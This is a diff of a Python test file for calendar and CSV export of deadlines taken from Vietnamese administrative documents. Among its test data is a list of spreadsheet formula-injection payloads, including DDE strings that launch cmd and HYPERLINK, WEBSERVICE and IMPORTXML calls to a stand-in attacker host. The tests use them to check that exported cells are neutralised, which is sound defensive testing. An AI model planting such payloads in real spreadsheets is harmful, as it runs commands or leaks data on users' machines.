@@ -4,15 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import unicodedata
 from dataclasses import replace
 from datetime import date, datetime
 
 import pytest
+import vobject
 from fastapi.testclient import TestClient
 from icalendar import Calendar, Event
 
 from assistant.present.calendar import days_of, deadline_calendar
-from assistant.present.spreadsheet import deadline_csv
+from assistant.present.spreadsheet import BYTE_ORDER_MARK, COLUMNS, deadline_csv
 from assistant.records import BoundDeadline
 from tests.assistant.present.example_documents import QUANG_NGAI, deadline, gia_lai, quang_ngai
 from vectorstore.records import Deadline
@@ -67,6 +69,20 @@ def test_a_yearly_deadline_recurs() -> None:
     assert event["DTEND"].dt == date(2019, 11, 16)  # exclusive, RFC 5545
 
 
+def test_another_reader_finds_a_yearly_deadline_in_each_year_to_come() -> None:
+    calendar = deadline_calendar([bound(made(date="11-15", recurrence="yearly"))], "vi")
+    event = vobject.readOne(calendar.decode()).vevent
+    days = event.getrruleset(addRDate=True).between(datetime(2026, 1, 1), datetime(2029, 1, 1))
+    assert [day.date() for day in days] == [date(2026, 11, 15), date(2027, 11, 15), date(2028, 11, 15)]
+
+
+def test_another_reader_finds_a_yearly_leap_day_in_years_without_one() -> None:
+    calendar = deadline_calendar([bound(made(date="02-29", recurrence="yearly"))], "vi")
+    event = vobject.readOne(calendar.decode()).vevent
+    days = event.getrruleset(addRDate=True).between(datetime(2027, 1, 1), datetime(2028, 12, 31))
+    assert [day.date() for day in days] == [date(2027, 2, 28), date(2028, 2, 29)]
+
+
 def test_a_yearly_leap_day_falls_on_the_last_of_february() -> None:
     assert b"BYMONTHDAY=-1" in event_of(made(date="02-29", recurrence="yearly"))["RRULE"].to_ical()
 
@@ -98,6 +114,20 @@ def test_long_vietnamese_lines_survive_folding() -> None:
     assert str(event_of(made(date="2025-09-05", what=words))["SUMMARY"]).endswith(words)
 
 
+def test_a_whole_calendar_is_valid_to_two_readers_and_says_the_same_to_both(client: TestClient) -> None:
+    content = client.get("/api/deadlines.ics").content
+    calendar = vobject.readOne(content.decode())
+    calendar.validate(raiseException=True)
+    assert Calendar.from_ical(content).errors == []
+    assert all(len(line) <= 75 for line in content.split(b"\r\n"))  # octets, RFC 5545, 3.1
+    theirs = [(str(event.uid.value), event.summary.value, event.dtstart.value) for event in calendar.vevent_list]
+    ours = [(str(event["UID"]), str(event["SUMMARY"]), event["DTSTART"].dt) for event in events(content)]
+    assert theirs == ours
+    assert any(
+        "Ủy ban nhân dân các huyện, thị xã, thành phố" in event.description.value for event in calendar.vevent_list
+    )
+
+
 def test_the_calendar_route_leaves_out_what_has_no_date(client: TestClient) -> None:
     response = client.get("/api/deadlines.ics")
     assert response.headers["content-type"] == "text/calendar; charset=utf-8"
@@ -114,11 +144,51 @@ def test_excel_finds_its_mark_and_every_letter(client: TestClient) -> None:
     assert "attachment" in response.headers["content-disposition"]
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝"])
-def test_no_cell_is_run(start: str) -> None:
-    text = deadline_csv([bound(made(date="2025-09-05", what=f"{start}HYPERLINK(1)"))], "vi")
-    cells = next(csv.reader(io.StringIO(text.splitlines()[1])))
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example","nhấn")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML("http://evil.example","//a")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u2028=1+1",
+    '"=1+1',
+    '",=1+1',
+    "\r\n=1+1,",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    'DDE ("cmd";"/C calc";"x")\n=1',
+)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_cell_of_any_column_is_run(formula: str) -> None:
+    facts = {"actors": formula, "report_to": formula, "via": formula, "section": formula, "period": formula}
+    attack = made(what=formula, date=None, recurrence="periodic", **facts)
+    header = replace(quang_ngai().document, number=formula, province=formula, issued=formula, source=formula)
+    one = BoundDeadline(header, replace(attack, as_printed=formula), formula, "group", "undated")
+    rows = list(csv.reader(io.StringIO(deadline_csv([one], "vi").removeprefix(BYTE_ORDER_MARK), newline="")))
+    assert [len(row) for row in rows] == [len(COLUMNS), len(COLUMNS)]
+    starts = {unicodedata.normalize("NFKC", cell.lstrip())[:1] for cell in rows[1]}
+    assert not starts & {"=", "+", "-", "@"}
+    assert not any("\n" in cell or "\r" in cell for cell in rows[1])
+
+
+def test_a_cell_that_runs_nothing_is_left_as_it_is() -> None:
+    one = bound(made(date="2025-09-05", what="báo cáo – tổng hợp = gửi Ủy ban nhân dân tỉnh"))
+    assert "báo cáo – tổng hợp = gửi Ủy ban nhân dân tỉnh" in deadline_csv([one], "vi")
 
 
 def test_a_line_end_in_a_cell_makes_no_new_row() -> None:
